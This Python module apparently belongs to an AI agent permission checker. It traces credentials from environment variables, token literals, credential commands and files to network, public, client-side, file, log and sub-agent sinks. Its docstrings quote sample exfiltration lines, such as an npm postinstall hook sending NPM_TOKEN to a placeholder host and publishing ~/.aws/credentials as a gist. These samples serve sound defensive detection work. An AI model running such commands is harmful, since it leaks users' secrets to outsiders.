"""Secret flows (issue 10 §5): where credentials come from and where they must not go.

Sources: secret environment variables, secret-looking literal values, commands that print a credential, credential
files, and shell variables assigned from any of these. Sinks: network requests (URL, headers, body, standard input),
URLs stored for later use (a git remote, a registry), public or shared places (issues, PR bodies, gists, commits,
chat and mail, MCP tools that post), client-exposed variables of web frameworks, files of the project and log
statements, prompts handed to sub-agents. A credential also has an owner: `$GITHUB_TOKEN` belongs to GitHub's hosts,
and sent anywhere else it leaves its owner's hands.

The facts are data under `data/flows/` (JSON: each file's `_about` says where they come from), loaded once.
`flows(a)` returns every (secret, sink) pair of one analysed action; rules in `automode.rules.secrets` judge them.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable, Iterator
from functools import cache

from automode import lazyre
from automode.dc import dataclass
from automode.effects import mcp_name
from automode.hosts import is_local
from automode.literals import gate_of
from automode.typing_lite import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from automode.analysis import Analysis
    from automode.effects import Effect
    from automode.shell.parse import Command
    from automode.shell.words import Word

DATA = os.path.join(os.path.dirname(__file__), "data", "flows")  # a str: pathlib costs a cold hook ~1 ms
INTERNAL_HOST = lazyre.compile(r"^(10\.\d+\.\d+\.\d+|192\.168\.\d+\.\d+|172\.(1[6-9]|2\d|3[01])\.\d+\.\d+)$|\.(internal|local|lan|corp|intranet|home\.arpa)$|^[a-z0-9-]+$")
ENV_REF = lazyre.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
URL_WORD = lazyre.compile(r"^[a-zA-Z][a-zA-Z0-9+.-]{1,15}://")
SAME_CHAR_RUN = lazyre.compile(r"(.)\1{5,}")
PERCENT = lazyre.compile(r"%(3[AaDd]|2[Ff]|40|26)")


@dataclass(frozen=True, slots=True)
class Secret:
    what: str  # how a reason names it: "$GITHUB_TOKEN", "a GitHub token", "`gh auth token`", "/home/u/.aws/credentials"
    service: str  # the service that issued it ("" = unknown)
    kind: str  # "env" | "value" | "command" | "file"


@dataclass(frozen=True, slots=True)
class Flow:
    secret: Secret
    sink: str  # "network" | "url" | "public" | "client" | "file" | "log" | "delegate"
    where: str  # host, place (`gh issue create`, an MCP tool), variable, path
    committed: bool = False  # file sinks: the same action commits the change
    mutates: bool = False  # network sinks: the request sends data or changes something (POST, PUT, PATCH, DELETE, a body)


@dataclass(frozen=True)
class Tables:
    values: tuple[tuple[str, str, str, str], ...]  # (id, name, service, regex source): compiled on first hit
    any_value: re.Pattern[str]
    assigned: re.Pattern[str]
    assigned_min: int
    url_password: re.Pattern[str]
    placeholders: tuple[str, ...]
    env_name: re.Pattern[str]
    env_not_secret: re.Pattern[str]
    env_public: re.Pattern[str]
    client_prefixes: tuple[str, ...]
    client_secret_name: re.Pattern[str]
    services: dict[str, tuple[tuple[str, ...], tuple[str, ...]]]  # name -> (hosts, self-hosted names)
    service_env: re.Pattern[str]  # one alternation, a named group per service
    commands: tuple[tuple[tuple[str, ...], str, tuple[str, ...]], ...]
    files: tuple[tuple[re.Pattern[str], str], ...]
    exfil_hosts: tuple[str, ...]
    public_commands: tuple[tuple[tuple[str, ...], frozenset[str], bool, bool], ...]
    mcp_public: re.Pattern[str]
    mcp_read: re.Pattern[str]
    dns_tools: frozenset[str]
    publish_words: re.Pattern[str]
    query_paths: re.Pattern[str]
    shortest_value: int  # the fewest characters any of `any_value`, `assigned`, `url_password` can match
    value_gate: Callable[[str], bool] | None  # false only for text `any_value` cannot match (automode.literals)
    url_password_gate: Callable[[str], bool] | None


def _read(name: str) -> str:
    with open(os.path.join(DATA, name), encoding="utf-8") as f:
        return f.read()


def load(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(_read(name))
    return data


@cache
def tables() -> Tables:
    v, s, e, src, sk = load("values.json"), load("services.json"), load("env.json"), load("sources.json"), load("sinks.json")
    values = tuple((x["id"], x["name"], x["service"], x["re"]) for x in v["values"])
    return Tables(
        values=values,
        any_value=re.compile("|".join(f"(?:{x['re']})" for x in v["values"])),
        assigned=re.compile(v["assigned"]["re"]),
        assigned_min=int(v["assigned"]["min_len"]),
        url_password=re.compile(v["url_password"]["re"]),
        placeholders=tuple(v["placeholders"]),
        env_name=re.compile(e["name"], re.I),
        env_not_secret=re.compile(e["not_secret"], re.I),
        env_public=re.compile(e["public"], re.I),
        client_prefixes=tuple(e["client_prefixes"]),
        client_secret_name=re.compile(e["client_secret_name"], re.I),
        services={k: (tuple(x["hosts"]), tuple(x["self_hosted"])) for k, x in s["services"].items()},
        service_env=re.compile("|".join(f"(?P<{k}>{x['env']})" for k, x in s["services"].items())),
        commands=tuple((tuple(c[0]), c[1], tuple(c[2])) for c in src["commands"]),
        files=tuple((re.compile(p), svc) for p, svc in src["files"]),
        exfil_hosts=tuple(sk["exfil_hosts"]),
        public_commands=tuple((tuple(c[0]), frozenset(c[1]), bool(c[2]), bool(c[3])) for c in sk["public_commands"]),
        mcp_public=re.compile(sk["mcp_public"], re.I),
        mcp_read=re.compile(sk["mcp_read"], re.I),
        dns_tools=frozenset(sk["dns_tools"]),
        publish_words=re.compile(sk["publish_words"], re.I),
        query_paths=re.compile(sk["query_paths"], re.I),
        # Derived from the patterns by automode.literals and stored with them (a test keeps them equal).
        shortest_value=int(v["prefilter"]["shortest"]),
        value_gate=gate_of(v["prefilter"]["value_literals"], v["prefilter"]["value_trie"]),
        url_password_gate=gate_of(v["prefilter"]["url_password_literals"]),
    )


# ------------------------------------------------------------------ sources
def secret_env_name(name: str) -> bool:
    """Does an environment variable of this name hold a credential (GITHUB_TOKEN yes, TOKENIZERS_PARALLELISM no)?"""
    t = tables()
    return bool(t.env_name.search(name)) and not t.env_not_secret.search(name)


@cache
def command_names() -> frozenset[str]:
    """First words of the credential-printing commands (for indexing rules without compiling the tables)."""
    return frozenset(c[0][0] for c in load("sources.json")["commands"])


@cache
def _value_re(source: str) -> re.Pattern[str]:
    return re.compile(source)


def env_service(name: str) -> str:
    m = tables().service_env.search(name)
    return m.lastgroup or "" if m else ""


def env_secret(name: str) -> Secret | None:
    """`$NAME` as a secret when it is named like a credential. Environment variables are upper case by convention;
    a lower-case `$password` is a script's own local and is not counted here."""
    if not name.isupper() or not secret_env_name(name):
        return None
    return Secret(f"${name}", env_service(name), "env")


def publishable(name: str) -> bool:
    """A variable documented as safe in a browser (publishable, anon, site keys)."""
    return bool(tables().env_public.search(name))


def _looks_random(value: str) -> bool:
    low = value.lower()
    if value.startswith(("$", "%(", "{{", "<")) or SAME_CHAR_RUN.search(value):
        return False
    if not (any(c.isdigit() for c in value) and any(c.isalpha() for c in value)):
        return False
    return not any(p in low for p in tables().placeholders)


def _placeholder_token(value: str) -> bool:
    """`AKIAIOSFODNN7EXAMPLE` (the AWS docs' key), `ghp_xxxxxxxxxxxxxxxxxxxx`."""
    return value.endswith(("EXAMPLE", "EXAMPLEKEY")) or bool(SAME_CHAR_RUN.search(value.split("_", 1)[-1]))


def values(text: str) -> list[Secret]:
    """Secret-looking literal values in `text`: issuer-prefixed tokens, private keys, JWTs, a credential's name with a
    random-looking value next to it, a password inside a URL."""
    t = tables()
    if len(text) < t.shortest_value:  # most words of a command: too short to hold any secret-looking value
        return []
    if "%" in text and PERCENT.search(text):
        # a URL-encoded value (a search query carrying `postgresql%3A%2F%2Fapp%3Apw%40host`) is read decoded too
        from urllib.parse import unquote

        text = f"{text} {unquote(text)}"
    out: list[Secret] = []
    if (t.value_gate is None or t.value_gate(text)) and t.any_value.search(text):
        for _id, name, svc, source in t.values:
            m = _value_re(source).search(text)
            if m and not _placeholder_token(m.group(0)):
                out.append(Secret(name, svc, "value"))
    for m in t.assigned.finditer(text):
        val = m.group(1)
        if len(val) >= t.assigned_min and _looks_random(val):
            out.append(Secret(f"the value of {m.group(0).split('=')[0].split(':')[0].strip(chr(34) + chr(39) + ' ')[:40]}", "", "value"))
            break
    for m in t.url_password.finditer(text) if t.url_password_gate is None or t.url_password_gate(text) else ():
        if _looks_random(m.group(1)):
            out.append(Secret("a password in a URL", "", "value"))
            break
    return out


def file_service(path: str) -> str:
    for pat, svc in tables().files:
        if pat.search(path):
            return svc
    return ""


@cache
def _secret_commands() -> dict[str, tuple[tuple[tuple[str, ...], str, tuple[str, ...]], ...]]:
    """The credential-printing command rows by first word, in table order."""
    out: dict[str, list[tuple[tuple[str, ...], str, tuple[str, ...]]]] = {}
    for row in tables().commands:
        out.setdefault(row[0][0], []).append(row)
    return {k: tuple(v) for k, v in out.items()}


def command_secret(cmd: Command) -> Secret | None:
    """Does this command print a credential (`gh auth token`, `op read …`, `kubectl get secret x -o yaml`)? A
    control-plane table that reads the command's options (`kubectl --context prod -n pay get secret x -o yaml`)
    covers what the argv prefixes of `sources.json` (which also name the credential's service) do not."""
    rows = _secret_commands().get(cmd.name)
    if rows is not None:
        argv = [cmd.name, *cmd.args]
        for prefix, svc, needs in rows:
            n = len(prefix)
            if argv[:n] == list(prefix) and (not needs or any(a == o or a.startswith(o + "=") for a in argv[n:] for o in needs)):
                return Secret(f"`{' '.join(argv[:n])}`", svc, "command")
    if control_secret(cmd) is not None:
        return Secret(f"`{' '.join([cmd.name, *cmd.args])[:60]}`", "", "command")
    return None


def control_secret(cmd: Command) -> Effect | None:
    """The control effect of a command that prints a stored secret (its table's entry has origin "secret"), with the
    environment it reads from; None for anything else."""
    from automode.knowledge import control

    if cmd.name not in control.index() and not control.RUNNERS.match(cmd.name):
        return None
    e = control.classify(cmd)
    return e if e is not None and e.verb == "read" and e.origin == "secret" else None


@cache
def _mcp_secret_re() -> re.Pattern[str]:
    return re.compile(load("sources.json")["mcp_secret_read"])


def mcp_secret(tool: str, inp: Any) -> str | None:
    """An MCP call that returns a stored secret's value (`mcp__vault__read_secret`, `…__get_secret_value`): the
    environment its inputs name ("" when none), or None for any other call."""
    if not tool.startswith("mcp__") or not _mcp_secret_re().search(tool.rsplit("__", 1)[-1]):
        return None
    from automode.knowledge.envmarkers import env_of, strongest

    vals = [v for v in (inp.values() if isinstance(inp, dict) else ()) if isinstance(v, str)]
    return strongest(env_of(v) for v in vals[:20]) or ""


@cache
def _filters() -> dict[str, re.Pattern[str]]:
    return {c: re.compile(rx) for c, rx in load("sources.json")["hidden_filters"]}


@cache
def _hidden() -> dict[str, tuple[str, ...]]:
    return {c: tuple(opts) for c, opts in load("sources.json")["hidden_output"]}


def hides_output(cmd: Command) -> bool:
    """Does this command print only a count, a file name, an exit status or a digest of what it reads?"""
    if cmd.name in ("jq", "gojq", "jaq", "yq"):
        # the filter is the first word that is not an option (`jq -r '.data | keys[]'`)
        f = next((a for a in cmd.args if not a.startswith("-")), None)
        return f is not None and bool(_filters()[cmd.name].match(f))
    opts = _hidden().get(cmd.name)
    if opts is None:
        return False
    if not opts:
        return True
    for a in cmd.args:
        if a == "--":
            break
        if a in opts or a.split("=", 1)[0] in opts:
            return True
        if a.startswith("-") and not a.startswith("--") and any(o[1:] in a[1:] for o in opts if len(o) == 2):
            return True
    return False


# ------------------------------------------------------------------ hosts
def _in_domains(host: str, domains: tuple[str, ...]) -> bool:
    return any(host == d or host.endswith("." + d) for d in domains)


def host_relation(service: str, host: str) -> str:
    """"own" (the service's hosts), "self-hosted" (a host named after the service: maybe its own instance), "internal"
    (private addresses and names), "local", or "foreign"."""
    h = host.lower().rstrip(".")
    if is_local(h):
        return "local"
    svc = tables().services.get(service)
    if svc is not None:
        hosts, names = svc
        if _in_domains(h, hosts):
            return "own"
        registered = "".join(h.split(".")[-2:])
        if any(len(stem) >= 5 and stem in registered for stem in (d.split(".")[0] for d in hosts)):
            return "foreign"  # a look-alike: registry.npmjs-mirror.net, github-status.io
        first = h.split(".", 1)[0]
        if first == service or first in names:
            return "self-hosted"
    if INTERNAL_HOST.search(h):
        return "internal"
    return "foreign"


def exfil_host(host: str) -> bool:
    """A request catcher, paste site, file drop or tunnel: anyone can read what is sent there."""
    return _in_domains(host.lower().rstrip("."), tables().exfil_hosts)


def client_exposed(name: str) -> bool:
    return name.startswith(tables().client_prefixes)


# ------------------------------------------------------------------ flows of one action
# (analysis, its flows), replaced as one object: rules ask several times per decision, and decisions of other threads
# (the resident server) must never read one analysis with another's flows.
_LAST: list[tuple[Any, list[Flow]]] = [(None, [])]


def flows(a: Analysis) -> list[Flow]:
    last = _LAST[0]
    if last[0] is a:
        return last[1]
    out = list(_flows(a))
    _LAST[0] = (a, out)
    return out


def _flows(a: Analysis) -> Iterator[Flow]:
    from automode.analysis import AGENT_TOOLS, FILE_WRITE_TOOLS, WEB_TOOLS

    tool = a.action.tool
    if a.shell:
        yield from _shell_flows(a)
    elif tool in FILE_WRITE_TOOLS:
        yield from _write_flows(a)
        if a.commands:
            # what a written file runs later (an npm lifecycle script, a Makefile recipe): its flows are the action's
            # (`"postinstall": "node -e \"…get('https://x/?u='+process.env.NPM_TOKEN)\""`, h8-0283)
            yield from _shell_flows(a)
    elif tool in WEB_TOOLS:
        for e in a.effects:
            if e.kind == "network":
                for s in values(e.target):
                    yield Flow(s, "url", _host(e.target))
    elif tool in AGENT_TOOLS:
        for e in a.effects:
            if e.kind == "delegate":
                prompt = e.content or ""
                found = values(prompt)
                publish = bool(found) and tables().publish_words.search(prompt[:20_000]) is not None
                for s in found:
                    yield Flow(s, "delegate-send" if publish else "delegate", "others" if publish else e.target)
                yield from _delegated_sends(e.content or "", a)
        if a.commands:
            yield from _shell_flows(a)  # the commands the prompt spells out (`analysis._delegated_commands`)
    elif tool.startswith("mcp__") or "__" in tool:
        name = mcp_name(tool)
        if tables().mcp_public.search(name) and not tables().mcp_read.search(name):
            try:
                text = json.dumps(dict(a.action.input), default=str)[:50_000]
            except (TypeError, ValueError):
                text = str(a.action.input)[:50_000]
            for s in values(text):
                yield Flow(s, "public", tool)


PROMPT_PATH = lazyre.compile(r"(?<![\w/.])((?:~|\$HOME|/home/[\w.-]+|/Users/[\w.-]+|/root)/[\w./-]+|\.env(?:\.[\w-]+)?)\b")
PROMPT_URL = lazyre.compile(r"https?://[^\s'\"<>)]+")


def _delegated_sends(prompt: str, a: Analysis) -> Iterator[Flow]:
    """A sub-agent told, in prose, to send credential files somewhere: `tar ~/.kube/config … upload to https://x`."""
    from automode.paths import is_secret_path, resolve

    urls = [u for u in PROMPT_URL.findall(prompt[:20_000]) if not is_local(_host(u))]
    if not urls:
        return
    for m in PROMPT_PATH.finditer(prompt[:20_000]):
        p = resolve(m.group(1), a.cwd, a.ctx.home)
        if is_secret_path(p, a.ctx.home):
            yield Flow(Secret(m.group(1), file_service(p), "file"), "delegate-send", _host(urls[0]))
            return


def _query(url: str, body: str) -> bool:
    """POST to a query endpoint (GraphQL, search, completions) that asks rather than changes; a GraphQL mutation changes."""
    return tables().query_paths.search(url) is not None and "mutation" not in body


def _registered(name: str) -> str:
    """The domain whose name servers see a looked-up name: its last two labels (`x.evil.com` -> `evil.com`)."""
    labels = [x for x in name.split(":", 1)[0].split(".") if x]
    return ".".join(labels[-2:]).lower()


def _host(url: str) -> str:
    from automode.shell.commands import url_host

    return url_host(url)


class _Scope:
    """Per action: variables assigned from secrets, substituted commands by text."""

    def __init__(self, a: Analysis) -> None:
        self.shortest = tables().shortest_value
        self.subs = [c for c in a.commands if c.substituted]
        self.tainted: dict[str, Secret] = {}
        for name, raw in a.assignments:
            s = self.raw_secrets(raw)
            if s:
                self.tainted[name] = s[0]
        for c in a.commands:
            for name, w in c.assigns:
                s = self.raw_secrets(w.raw)
                if s:
                    self.tainted[name] = s[0]

    def raw_secrets(self, raw: str) -> list[Secret]:
        out: list[Secret] = []
        if "$" in raw or "`" in raw:
            for m in ENV_REF.finditer(raw):
                name = m.group(1)
                s = self.tainted.get(name) or env_secret(name)
                if s:
                    out.append(s)
            if "$(" in raw or "`" in raw:
                for c in self.subs:
                    if c.text and c.text in raw:
                        s = command_secret(c)
                        if s:
                            out.append(s)
        out.extend(values(raw))
        return out

    def word(self, w: Word) -> list[Secret]:
        raw = w.raw
        if not raw:
            return []
        if len(raw) < self.shortest and "$" not in raw and "`" not in raw and len(w.value) < self.shortest:
            return []  # no reference, no substitution, too short for any literal value (most words of a command)
        s = self.raw_secrets(raw)
        if not s and w.value != w.raw:
            s = values(w.value)
        return s

    def stdin(self, cmd: Command, a: Analysis) -> list[Secret]:
        """Secrets fed to a command's standard input by the commands upstream of its pipe."""
        src, hops = cmd.pipe_from, 0
        out: list[Secret] = []
        if src is None and not cmd.redirects:
            return out
        while src is not None and hops < 8:
            s = command_secret(src)
            if s:
                out.append(s)
            if src.name in ("echo", "printf", "print"):
                for w in src.argv[1:]:
                    out.extend(self.word(w))
            for e in a.effects:
                if e.kind == "read" and e.pclass == "secret" and e.detail == src.text[:200]:
                    out.append(Secret(e.target, file_service(e.target), "file"))
            src, hops = src.pipe_from, hops + 1
        for r in cmd.redirects:
            if r.op in ("<<", "<<-", "<<<") and r.body:
                out.extend(self.raw_secrets(r.body))
        return out


def _opt_values(cmd: Command, opts: frozenset[str]) -> Iterator[Word]:
    """Values of the given options: `--body X`, `--body=X`, `-bX`."""
    from automode.shell.words import Word

    argv = cmd.argv[1:]
    for i, w in enumerate(argv):
        v = w.value
        if v in opts and i + 1 < len(argv):
            yield argv[i + 1]
        elif v.startswith("--") and v.split("=", 1)[0] in opts and "=" in v:
            yield Word(v.split("=", 1)[1], w.raw.split("=", 1)[-1], w.dynamic)
        elif len(v) > 2 and v[:2] in opts and not v.startswith("--"):
            yield Word(v[2:], w.raw[2:] if w.raw.startswith(v[:2]) else w.raw, w.dynamic)


def _code_secrets(cmd: Command) -> list[Secret]:
    """Secret variables that inline code reads (`os.environ['X']`, `process.env.X`, `ENV['X']`, `$ENV{X}`), in its
    words or in a heredoc fed to it: the code's requests carry them (as a header, a body or a query)."""
    from automode.shell.codeflow import env_names

    texts = [w.raw for w in cmd.argv[1:]] + [r.body for r in cmd.redirects if r.body]
    out: list[Secret] = []
    for text in texts:
        for name in env_names(text[:100_000]):
            s = env_secret(name)
            if s is not None and s not in out:
                out.append(s)
    return out


def _shell_flows(a: Analysis) -> Iterator[Flow]:
    t = tables()
    scope = _Scope(a)
    commits = any(c.name == "git" and c.args[:1] == ["commit"] for c in a.commands)
    # Effects by the command text they came from, once: every command below looks its own up (not a scan each).
    by_detail: dict[str, list[Effect]] = {}
    for e in a.effects:
        if e.kind in ("network", "write"):
            by_detail.setdefault(e.detail, []).append(e)
    for name, raw in a.assignments:
        yield from _client(name, scope.raw_secrets(raw))
    for cmd in a.commands:
        for name, w in cmd.assigns:
            yield from _client(name, scope.word(w))
        if cmd.name in ("export", "declare", "typeset", "setenv", "set") or (cmd.name == "env" and cmd.args):
            for w in cmd.argv[1:]:
                if "=" in w.raw:
                    name, _, val = w.raw.partition("=")
                    yield from _client(name.strip("'\""), scope.raw_secrets(val))
        mine = by_detail.get(cmd.text[:200], ())
        for e in mine:
            if e.kind == "write" and e.content:
                yield from _client_lines(e.content)
        args = cmd.argv[1:]
        if not args and cmd.pipe_from is None:
            continue
        if cmd.name in _first_words("public"):
            yield from _public_files(cmd, a)
        if cmd.name == "git" and cmd.args[:1] == ["add"]:
            yield from _staged_secrets(cmd, a, commits)
        if not mine and cmd.name not in t.dns_tools and cmd.name not in _first_words("public") and not any(
                URL_WORD.match(w.raw.strip("'\"")) for w in args):  # fmt: skip
            continue  # no sink below: no request, write, URL, DNS name or public place for a secret to reach
        per_word = [(w, scope.word(w)) for w in args]
        stdin = scope.stdin(cmd, a)
        code_net = [e for e in mine if e.kind == "network" and e.via and e.via[-1].endswith(" code")]
        code = _code_secrets(cmd) if code_net else []
        if not stdin and not code and not any(s for _, s in per_word):
            continue
        # URLs that carry a secret: whoever runs the URL's host gets it (a git remote, a registry, a fetch).
        for w, secrets in per_word:
            raw = w.raw.strip("'\"")
            if secrets and URL_WORD.match(raw):
                host_part = raw.split("://", 1)[1].split("/", 1)[0].rsplit("@", 1)[-1]
                for s in secrets:
                    yield Flow(s, "url", _host(raw.replace("$", "x")))
                    if "$" in host_part or "`" in host_part or values(host_part):
                        yield Flow(s, "dns", _registered(host_part))
            elif secrets and cmd.name in t.dns_tools and not raw.startswith("-") and "." in raw:
                for s in secrets:
                    yield Flow(s, "dns", _registered(raw.rsplit("@", 1)[-1]))
        # Requests: every argument and the standard input go to the hosts of the command's network effects.
        net = [e for e in mine if e.kind == "network" and e.target != "<unknown>"]
        if net:
            arg_secrets = [s for _, ss in per_word for s in ss]
            sends = {_host(e.target) for e in net if e.origin == "send" and not _query(e.target, e.content or "")}
            for h in dict.fromkeys(_host(e.target) for e in net):
                for s in arg_secrets + stdin:
                    yield Flow(s, "network", h, mutates=h in sends)
            for h in dict.fromkeys(_host(e.target) for e in code_net if e.target != "<unknown>"):
                for s in code:  # the code's own requests carry what the code reads
                    yield Flow(s, "network", h, mutates=h in sends)
        # Public places.
        argv = [cmd.name, *cmd.args]
        for prefix, opts, _files, stdin_public in t.public_commands if cmd.name in _first_words("public") else ():
            if argv[: len(prefix)] != list(prefix):
                continue
            place = " ".join(prefix)
            for w in _opt_values(cmd, opts):
                for s in scope.word(w):
                    yield Flow(s, "public", place)
            if stdin_public:
                for s in stdin:
                    yield Flow(s, "public", place)
            break
        # Files of the project: a secret written into something that may be committed or shipped.
        writes = [e for e in mine if e.kind == "write" and (e.pclass in ("project", "protected") or (
            e.pclass == "secret" and _committed(e, a.root)))]
        if writes:
            secrets = [s for _, ss in per_word for s in ss] + (stdin if cmd.name in ("tee", "cat", "dd") else [])
            for e in writes:
                for s in secrets:
                    # A project `.npmrc` filled from `$NPM_TOKEN` is the registries' own documented CI recipe; a
                    # literal token pasted there is not.
                    if e.pclass != "secret" or s.kind == "value":
                        yield Flow(s, "file", e.target, committed=commits)


def _staged_secrets(cmd: Command, a: Analysis, commits: bool) -> Iterator[Flow]:
    """`git add .env config/master.key`: a credential file staged for the repository's history."""
    from automode.paths import classify

    for w in cmd.argv[2:]:
        if w.value.startswith("-") or not w.value or w.dynamic:
            continue
        info = classify(w.value, cmd.cwd or a.cwd, a.ctx.home, a.root)
        if info.cls == "secret":
            yield Flow(Secret(info.path, file_service(info.path), "file"), "file", "the repository", committed=commits)


@cache
def _first_words(what: str) -> frozenset[str]:
    t = tables()
    rows = t.public_commands if what == "public" else t.commands
    return frozenset(r[0][0] for r in rows)


def _public_files(cmd: Command, a: Analysis) -> Iterator[Flow]:
    """`gh gist create ~/.aws/credentials`: files a public command publishes as they are."""
    from automode.paths import classify

    if cmd.name not in _first_words("public"):
        return
    argv = [cmd.name, *cmd.args]
    for prefix, _opts, files_public, _ in tables().public_commands:
        if files_public and argv[: len(prefix)] == list(prefix):
            for w in cmd.argv[len(prefix) :]:
                if w.value.startswith("-") or not w.value:
                    continue
                info = classify(w.value, cmd.cwd or a.cwd, a.ctx.home, a.root, w.dynamic)
                if info.cls == "secret":
                    yield Flow(Secret(info.path, file_service(info.path), "file"), "public", " ".join(prefix))
            return


def _client(name: str, secrets: list[Secret]) -> Iterator[Flow]:
    """`NEXT_PUBLIC_X=…`: the value is compiled into the JavaScript every visitor downloads."""
    if not client_exposed(name) or publishable(name):
        return
    t = tables()
    if t.client_secret_name.search(name) and not secrets:
        yield Flow(Secret(f"${name}", "", "env"), "client", name)
        return
    for s in secrets:
        if s.kind == "env" and publishable(s.what.lstrip("$")):
            continue
        yield Flow(s, "client", name)


CLIENT_LINE = lazyre.compile(r"\b([A-Z][A-Z0-9]*_[A-Z0-9_]+)[\"']?\s{0,3}[=:]\s{0,3}(.{0,300})")
LOG_CALL = lazyre.compile(r"\b(log(ger|ging)?|console|print|printf|println|puts|fmt\.Print\w*|System\.out|Rails\.logger|warn|info|debug|error)\b[.\w]*\s*\(?[^\n]{0,200}"
                      r"(os\.environ|os\.getenv|getenv|process\.env|ENV\[|System\.getenv|env::var|Environment\.GetEnvironmentVariable)[\[.(\s\"']*([A-Z][A-Z0-9_]+)")  # fmt: skip


ENV_ACCESS = lazyre.compile(r"(?:process\.env\.|process\.env\[[\"']|import\.meta\.env\.|os\.environ\[[\"']|os\.getenv\([\"']|ENV\[[\"']|ENV\.fetch\([\"']|getenv\([\"'])([A-Z][A-Z0-9_]+)")


def text_secrets(text: str) -> list[Secret]:
    """Secrets named in a piece of text (a config value, code): `$NAME`, `process.env.NAME`, literal values."""
    out = [s for s in (env_secret(x) for x in ENV_REF.findall(text) + ENV_ACCESS.findall(text)) if s is not None]
    return out + values(text)


def _client_lines(text: str) -> Iterator[Flow]:
    """`NEXT_PUBLIC_X=…` lines of a dotenv file, `VITE_X: process.env.Y` entries of a config."""
    for line in text.splitlines()[:2000]:
        if "_" not in line:
            continue
        for m in CLIENT_LINE.finditer(line):
            if client_exposed(m.group(1)):
                yield from _client(m.group(1), text_secrets(m.group(2)))


@cache
def _committed_config() -> re.Pattern[str]:
    return re.compile(load("sinks.json")["committed_configs"])


def _committed(e: Effect, root: str) -> bool:
    """A credential file inside the project that projects commit by convention (a project `.npmrc`)."""
    r = root.rstrip("/") + "/"
    return e.target.startswith(r) and _committed_config().search(e.target[len(r):]) is not None


def _write_flows(a: Analysis) -> Iterator[Flow]:
    for e in a.effects:
        if e.kind != "write" or not e.content:
            continue
        text = e.content
        yield from _client_lines(text)
        if e.pclass in ("project", "protected") or (e.pclass == "secret" and _committed(e, a.root)):
            for s in values(text):
                yield Flow(s, "file", e.target)
            for m in LOG_CALL.finditer(text):
                logged = env_secret(m.group(4))
                if logged is not None:
                    yield Flow(logged, "log", e.target)


